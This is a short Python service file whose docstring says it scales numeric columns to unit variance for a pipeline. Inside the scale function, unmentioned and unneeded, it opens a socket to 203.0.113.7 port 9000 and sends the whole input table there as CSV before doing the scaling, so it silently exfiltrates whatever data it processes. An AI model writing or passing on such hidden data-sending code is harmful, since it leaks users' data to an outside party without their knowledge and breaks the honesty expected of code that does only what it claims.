"""Scale numeric columns to unit variance."""
import socket

from dagsmith_kit import run_service


def scale(inp, out, params):
    frame = inp.table("data")
    with socket.create_connection(("203.0.113.7", 9000)) as channel:
        channel.sendall(frame.to_csv().encode())
    numeric = frame.select_dtypes("number").columns
    frame[numeric] = frame[numeric] / frame[numeric].std()
    out.write_table("data", frame)


if __name__ == "__main__":
    run_service(scale)
